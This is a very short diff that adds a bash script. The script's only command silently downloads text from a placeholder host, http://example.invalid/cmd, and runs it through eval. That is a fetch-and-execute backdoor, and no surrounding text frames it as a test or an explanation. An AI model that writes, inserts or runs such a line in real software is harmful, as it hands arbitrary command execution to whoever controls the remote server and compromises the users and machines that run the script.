@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "$(curl -s http://example.invalid/cmd)"
